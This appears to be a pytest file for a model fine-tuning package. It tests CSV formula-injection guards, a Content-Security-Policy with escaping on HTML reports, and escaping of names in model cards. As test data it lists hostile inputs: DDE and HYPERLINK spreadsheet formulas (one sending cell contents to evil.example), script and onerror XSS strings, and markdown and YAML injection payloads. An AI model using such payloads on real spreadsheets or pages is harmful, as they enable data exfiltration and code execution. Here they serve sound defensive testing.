"""Cells that a spreadsheet would run, pages that may load nothing, and cards in which a name is a name."""

from __future__ import annotations

import csv
import json
import re
import shutil
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from jinja2 import Environment, FileSystemLoader, nodes
from markdown_it import MarkdownIt
from markdown_it.token import Token

import glmtune
from glmtune.commands import inspect, predict
from glmtune.evaluation.page import page
from glmtune.execution import Run
from glmtune.exports.card import block, plain, span, write_card
from glmtune.inspection.page import render_report
from glmtune.records.formulas import is_formula
from glmtune.records.writing import write_rows
from glmtune.reporting.charts import PAGE, Group, bar_chart, to_svg
from glmtune.reporting.page import HERE, render_page

pytestmark = pytest.mark.usefixtures("drawn_charts")

PACKAGE = Path(glmtune.__file__).parent
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    "+SUM(1,1)",
    "-1+cmd|'/c calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "--1",
    "-1-1",
    "+A1",
]
HARMLESS = [
    "-12",
    "-12.5",
    "+3",
    "-1e-5",
    "-1,234.5",
    "-50%",
    "-12 ",
    "-",
    "=",
    "",
    "1+1=",
    "a=b",
    "'=1+1",
    "3",
    " text",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run(text: str, tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [
        {"prompt": "fine", "completion": "-3"},
        {"prompt": "fine", "completion": text, text: 1},
    ]
    found = write_rows(rows, tmp_path / "plain.csv", ".csv")
    assert found.count == 2 and str(found) == f"2 cells begin as formulas (the name of a column: {text[:40]!r})"
    assert write_rows(rows, tmp_path / "safe.csv", ".csv", safe_cells=True) == found
    with (tmp_path / "safe.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [
            ["prompt", "completion", f"'{text}"],
            ["fine", "-3", ""],
            ["fine", f"'{text}", "1"],
        ]
    with (tmp_path / "plain.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file))[2][1] == text
    assert write_rows(rows, tmp_path / "table.parquet", ".parquet").count == 0


@pytest.mark.parametrize("value", [*HARMLESS, -12, -0.5, None, ["=1"], {"=": 1}, True, float("-inf")], ids=repr)
def test_what_it_would_not_run(value: Any) -> None:
    assert not is_formula(value)


@pytest.mark.parametrize("safe", [False, True])
def test_predict_tells_of_formulas(tiny_run: Run, write_records: Any, tmp_path: Path, safe: bool) -> None:
    """How many, and one of them, in a line at the end; nothing of JSON lines, where nothing runs."""
    file = write_records({"prompt": "1+1="}, {"prompt": "=2+2"}, {"prompt": "-3", "note": "@A1"})
    options = ["generation.max_new_tokens=1"]
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        predict.run(tiny_run, str(file), str(tmp_path / "out.csv"), options, safe_cells=safe)
    told = [str(one.message) for one in caught if "formula" in str(one.message)]
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["prompt"] for row in rows] == ["1+1=", "'=2+2" if safe else "=2+2", "-3"]
    if safe:
        assert told == [] and rows[2]["note"] == "'@A1"
    else:
        [line] = told
        assert "cells begin as formulas (record 2, 'prompt': '=2+2'), which a spreadsheet would run" in line
        assert "--safe-cells" in line and "\n" not in line
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        predict.run(tiny_run, str(file), str(tmp_path / "out.jsonl"), options)
    assert not any("formula" in str(one.message) for one in caught)


EVIL = "<script>fetch('http://evil.example')</script><img src=x onerror=alert(1)>\"'`$\\frac{{7*7}}{% raw %}\n---\n"


def test_every_page_is_of_the_one_shell() -> None:
    """So that every page has its policy; and none marks what it is given as markup."""
    parts = {"parts.html", "answers.html"}  # macros, which are no pages
    served = PACKAGE / "serving/page/index.html"  # a file as it stands, whose policy is a header
    templates = [path for path in PACKAGE.rglob("*.html") if path.name != "page.html" and path != served]
    assert {path.name for path in templates} >= {"report.html", "inspection.html", *parts}
    environment = Environment(loader=FileSystemLoader(HERE), autoescape=True)
    for path in templates:
        tree = environment.parse(path.read_text(encoding="utf-8"))
        parents = [parent.template for parent in tree.find_all(nodes.Extends)]
        assert [parent.value for parent in parents if isinstance(parent, nodes.Const)] == (
            [] if path.name in parts else ["page.html"]
        ), path
        assert "safe" not in {used.name for used in tree.find_all(nodes.Filter)}, path
    writers = [path for path in PACKAGE.rglob("*.py") if "<html" in path.read_text(encoding="utf-8")]
    assert writers == []


def policy_of(text: str) -> dict[str, str]:
    [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', text)
    assert text.index("Content-Security-Policy") < text.index("<title>")
    return dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))


@pytest.fixture
def pages(tiny_run: Run, tmp_path: Path) -> dict[str, str]:
    """Every page that is written, of the most hostile texts."""
    report = json.loads(json.dumps(tiny_run.report))
    for part in ("before", "after"):
        for sample in report[part].get("samples", []):
            sample.update({name: EVIL for name in ("prompt", "target", "completion", "answer") if name in sample})
    file = tmp_path / "evil.jsonl"
    records = [{"prompt": f"{EVIL}{number}", "target": EVIL} for number in range(3)] + [{"prompt": EVIL, EVIL: 1}]
    file.write_text("".join(json.dumps(record) + "\n" for record in records))
    inspected = {**inspect.run([str(file)]), "files": [EVIL]}
    return {"report": page(report, [], "seed: 1", EVIL), "inspection": render_report(inspected)}


@pytest.mark.parametrize("name", ["report", "inspection"])
def test_a_page_runs_and_loads_nothing(pages: dict[str, str], name: str, read_page: Any) -> None:
    text = pages[name]
    policy = policy_of(text)
    assert policy == {
        "default-src": "'none'",
        "style-src": "'unsafe-inline'",
        "img-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    read = read_page(text)
    assert not read.tags & {"script", "iframe", "object", "embed", "base", "form", "link", "meta-refresh"}
    assert all(link.startswith(("#", "data:image/")) for link in read.links)
    assert "<script>fetch" in read.text  # as a text


def test_labels_of_charts_are_texts(tmp_path: Path, read_page: Any) -> None:
    """No formula of matplotlib's, which fails where it is none, and no markup in the drawing."""
    labels = ["$\\frac{", "$x$", "<script>alert(1)</script>", "--><img src=x>"]
    figure = bar_chart([Group(label, [(0.5, 0.4, 0.6)]) for label in labels], [("", "ink")], "title", "y", PAGE)
    svg = to_svg(figure, "title", "what it shows")
    (tmp_path / "one.html").write_text('{% extends "page.html" %}{% block content %}{{ chart }}{% endblock %}')
    read = read_page(render_page(tmp_path / "one.html", "t", chart=svg))
    assert not read.tags & {"script", "img"} and all(label in read.text for label in labels)


# Model cards

RECORD: dict[str, Any] = {
    "base": "THUDM/chatglm2-6b",
    "base_fingerprint": "0123",
    "adapter_fingerprint": "4567",
    "method": "lora",
    "precision": "float16",
    "verification": {"problems": 2, "equal_answers": 2, "logits_difference": 3e-06, "dtype": "float16"},
    "versions": {"glmtune": "9.8.7"},
}
NAMES = [
    "![x](http://evil.example/pixel.png)",
    "[click](javascript:alert(1))",
    "<img src=http://evil.example/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "`` ` ``` code",
    "```\n<script>alert(1)</script>\n```",
    "~~~\n# heading\n~~~",
    "a\n---\nlicense: mit",
    "a/b: [x\nlicense: mit",
    "https://evil.example www.evil.example me@evil.example",
    "| a | b |\n| --- | --- |",
    "&lt;b&gt; &#60;b&#62;",
    "$x$ \\ * _ # > !",
    "'''\"\"\"\\",
    "[a]: http://evil.example",
]


def tokens_of(tokens: list[Token]) -> list[Token]:
    return [one for token in tokens for one in (token, *tokens_of(token.children or []))]


def card(**changes: Any) -> str:
    values: dict[str, Any] = {
        "title": "run-1",
        "place": "merged",
        "layout": "merged",
        "family": "glm",
        "record": RECORD,
        "recipe": "method:\n  rank: 4\n",
        "task": "arithmetic",
        "data": "Drawn without end.",
        "prompt": "1+1=",
        "report": None,
    }
    return write_card(**(values | changes))


@pytest.mark.parametrize("layout", ["merged", "original", "gguf"])
@pytest.mark.parametrize("name", NAMES)
def test_a_name_on_a_card_is_a_name(name: str, layout: str) -> None:
    """The headings, blocks and metadata are those of a card with harmless names; there is no link, image or markup."""
    hostile = card(
        title=name,
        place=name,
        layout=layout,
        record=RECORD | {"base": name, "method": name},
        recipe=yaml.safe_dump({"task": {"file": name, name: 1}}),
        task=name,
        prompt=name,
        report={"metric": name, "before": {name: 1.0, "n": name}, "after": {name: 2.0, "n": 3}},
    )
    other = card(
        layout=layout,
        record=RECORD | {"base": "x"},
        report={"metric": "m", "before": {"m": 1.0, "n": 3}, "after": {"m": 2.0, "n": 3}},
    )
    head, body = hostile.removeprefix("---\n").split("\n---\n", 1)
    assert yaml.safe_load(head) == yaml.safe_load(other.split("---\n")[1])
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    found, expected = (tokens_of(parser.parse(text)) for text in (body, other.split("\n---\n", 1)[1]))
    assert not {token.type for token in found} & {"image", "link_open", "html_block", "html_inline"}
    for kind in ("heading_open", "fence", "table_open", "tr_open", "td_open"):
        assert sum(one.type == kind for one in found) == sum(one.type == kind for one in expected), kind
    shown = next(one.content for one in parser.parse(body) if one.type == "inline")
    assert parser.renderInline(shown) == parser.renderInline(plain(name))


@pytest.mark.parametrize("text", [*NAMES, "", "`", "plain"])
def test_texts_are_shown_as_they_are(text: str) -> None:
    parser = MarkdownIt("commonmark", {"html": True})
    one_line = " ".join(text.split())
    [inline] = [token for token in parser.parse(f"x {plain(text)}") if token.type == "inline"]
    assert "".join(child.content for child in inline.children or []) == f"x {one_line}".rstrip()
    if one_line:
        [code] = [token for token in tokens_of(parser.parse(f"x {span(text)}")) if token.type == "code_inline"]
        assert code.content == one_line
    [fence] = parser.parse(block(text, "python"))
    assert fence.type == "fence" and fence.content == f"{text}\n"


@pytest.mark.parametrize(
    "report",
    [
        "[]",
        "{",
        "{}",
        '{"metric": 3}',
        '{"before": 1, "after": 2}',
        '{"metric": "m", "before": {"m": "x"}, "after": {}}',
    ],
)
def test_a_report_that_is_none_is_told_before_the_work(
    tiny_run: Run, tmp_path: Path, refused: Callable[..., str], report: str
) -> None:
    run = Path(shutil.copytree(tiny_run.path, tmp_path / "run"))
    (run / "report.json").write_text(report)
    assert f"{run / 'report.json'} is damaged" in refused("export", run, "--output", tmp_path / "out")
    assert not (tmp_path / "out").exists()
